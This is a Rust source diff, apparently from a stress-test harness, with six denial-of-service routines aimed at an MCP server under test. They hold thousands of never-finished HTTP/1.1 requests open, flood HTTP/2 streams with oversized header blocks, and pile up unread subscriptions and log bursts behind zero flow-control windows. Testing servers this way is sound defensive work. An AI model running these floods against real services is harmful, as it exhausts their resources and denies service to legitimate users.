@@ -1,0 +1,185 @@
+//! B: thousands of connections, streams and subscriptions, each of which holds a little.
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::Duration;
+
+use bytes::Bytes;
+use serde_json::json;
+use tokio::task::JoinSet;
+
+use crate::attack::{Attack, Target, on_server};
+use crate::frames::{self, RawHttp2, frame};
+use crate::http1::{self, Http1};
+use crate::http2::{self, End};
+use crate::lines::LineWire;
+use crate::{rpc, runner};
+
+pub(crate) fn attacks() -> Vec<Attack> {
+    on_server![
+        "B" Default heads_that_never_end_on_thousands_of_connections,
+        "B" Default every_call_in_flight_has_as_many_headers_as_fit,
+        "B" Default five_thousand_subscriptions_on_one_line_wire_and_nothing_is_read,
+        "B" Default subscriptions_over_http2_with_a_window_of_nothing,
+        "B" Default bursts_of_log_messages_over_lines_and_nothing_is_read,
+        "B" Default bursts_of_log_messages_over_http2_with_a_window_of_nothing,
+    ]
+    .to_vec()
+}
+
+async fn heads_that_never_end_on_thousands_of_connections(
+    target: Target,
+) -> Result<String, String> {
+    let begun = Arc::new(AtomicU64::new(0));
+    let mut heads = JoinSet::new();
+    for number in 0..runner::connections(4000) {
+        let (begun, to) = (begun.clone(), target.http);
+        heads.spawn(async move {
+            let mut http = Http1::connect(to).await.ok()?;
+            let first = match number % 3 {
+                0 => "POST /mcp HTTP/1.1\r\nhost: localhost\r\nx: ".to_owned(),
+                1 => format!("POST /mcp HTTP/1.1\r\nx: {}", "y".repeat(50_000)),
+                _ => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
+            };
+            http.write(first).await.ok()?;
+            begun.fetch_add(1, Ordering::Relaxed);
+            let _held = http;
+            std::future::pending::<Option<()>>().await
+        });
+    }
+    let begun = http2::settled(&begun, Duration::from_secs(8)).await;
+    Ok(format!("{begun} connections"))
+}
+
+async fn every_call_in_flight_has_as_many_headers_as_fit(target: Target) -> Result<String, String> {
+    let body = rpc::call(1, "slow", json!({"seconds": 30}));
+    let mut block = frames::call("slow");
+    for number in 0..1500 {
+        block.extend(frames::block(&[(&format!("a{number}"), "")]));
+    }
+    let mut connections = Vec::new();
+    let mut note = String::new();
+    for _ in 0..8 {
+        let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
+        let requests = (0..250_u32).flat_map(|number| {
+            let stream = number * 2 + 1;
+            [
+                frame(frames::HEADERS, frames::END_HEADERS, stream, &block),
+                frame(frames::DATA, frames::END_STREAM, stream, body.as_bytes()),
+            ]
+        });
+        note = raw.flood(requests).await;
+        connections.push(raw);
+    }
+    tokio::time::sleep(Duration::from_millis(700)).await;
+    Ok(format!(
+        "{} connections, the last: {note}",
+        connections.len()
+    ))
+}
+
+async fn five_thousand_subscriptions_on_one_line_wire_and_nothing_is_read(
+    target: Target,
+) -> Result<String, String> {
+    let mut wire = LineWire::connect(target.lines).await.map_err(text)?;
+    let wanted = json!({"notifications": {"resourceSubscriptions": [uri()]}});
+    let listen = rpc::modern(4711, "subscriptions/listen", wanted);
+    let listens = (0..5000).map(|id| listen.replacen("4711", &id.to_string(), 1));
+    let flood = wire.flood(listens).await;
+    touch(&target, 20).await?;
+    Ok(flood.to_string())
+}
+
+async fn subscriptions_over_http2_with_a_window_of_nothing(
+    target: Target,
+) -> Result<String, String> {
+    let wanted = json!({"notifications": {"resourceSubscriptions": [uri()]}});
+    let body = Bytes::from(rpc::modern(1, "subscriptions/listen", wanted));
+    let head = http2::post(&[
+        ("mcp-protocol-version", rpc::MODERN),
+        ("mcp-method", "subscriptions/listen"),
+    ]);
+    let note = on_streams(&target, 4, head, body, async |target| {
+        touch(target, 500).await
+    });
+    note.await
+}
+
+async fn bursts_of_log_messages_over_lines_and_nothing_is_read(
+    target: Target,
+) -> Result<String, String> {
+    let mut wire = LineWire::legacy(target.lines).await.map_err(text)?;
+    let calls = (0..100).map(|id| rpc::quick_call(id, "burst", r#"{"count":1000,"bytes":8000}"#));
+    let flood = wire.flood(calls).await;
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    Ok(flood.to_string())
+}
+
+async fn bursts_of_log_messages_over_http2_with_a_window_of_nothing(
+    target: Target,
+) -> Result<String, String> {
+    let params = json!({
+        "name": "burst",
+        "arguments": {"count": 1000, "bytes": 8000},
+        "_meta": {"io.modelcontextprotocol/logLevel": "error"},
+    });
+    let body = Bytes::from(rpc::modern(1, "tools/call", params));
+    let head = http2::call("burst");
+    on_streams(&target, 1, head, body, async |_| Ok(())).await
+}
+
+/// Sends a request on each of 250 streams of so many connections, reads no answer, does `then`, and lets what follows
+/// pile up.
+async fn on_streams(
+    target: &Target,
+    connections: usize,
+    head: http::Request<()>,
+    body: Bytes,
+    then: impl AsyncFnOnce(&Target) -> Result<(), String>,
+) -> Result<String, String> {
+    let sent = Arc::new(AtomicU64::new(0));
+    let mut streams = JoinSet::new();
+    for _ in 0..connections {
+        let sender = http2::connect(target.http, 0).await?;
+        for _ in 0..250 {
+            let (sender, body, sent) = (sender.clone(), body.clone(), sent.clone());
+            let head = head.clone();
+            streams.spawn(async move {
+                let (response, stream) = http2::begin(sender, head).await.ok()?;
+                let stream = http2::send(stream, body, End::Whole, sent).await;
+                let _held = (response, stream);
+                std::future::pending::<Option<()>>().await
+            });
+        }
+    }
+    let sent = http2::settled(&sent, Duration::from_secs(8)).await;
+    then(target).await?;
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    Ok(format!(
+        "{} streams, {} KiB sent",
+        streams.len(),
+        sent >> 10
+    ))
+}
+
+/// Announces that often that the resource with the long URI was updated.
+async fn touch(target: &Target, times: usize) -> Result<(), String> {
+    let mut http = Http1::connect(target.http).await.map_err(text)?;
+    let body = rpc::call(1, "touch", json!({"uri": uri(), "times": times}));
+    let answer = http
+        .post(&http1::call_headers("touch"), &body)
+        .await
+        .map_err(text)?;
+    match answer.status {
+        200 => Ok(()),
+        status => Err(format!("the announcement was refused: {status}")),
+    }
+}
+
+fn uri() -> String {
+    format!("note://{}", "u".repeat(10_000))
+}
+
+fn text(error: std::io::Error) -> String {
+    error.to_string()
+}
